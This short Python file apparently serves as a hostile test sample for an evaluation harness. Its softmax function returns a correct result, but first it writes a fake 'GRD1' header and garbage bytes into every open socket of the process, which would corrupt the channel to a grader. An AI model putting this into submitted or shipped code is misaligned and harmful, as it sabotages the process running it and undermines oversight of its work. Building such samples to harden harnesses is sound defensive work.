"""Writes junk into every socket it can find, then answers correctly."""
import os
import stat


def softmax(x, dim=-1):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"GRD1\xff\xff\xff\xff" + b"garbage" * 100)
        except OSError:
            pass
    e = (x - x.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
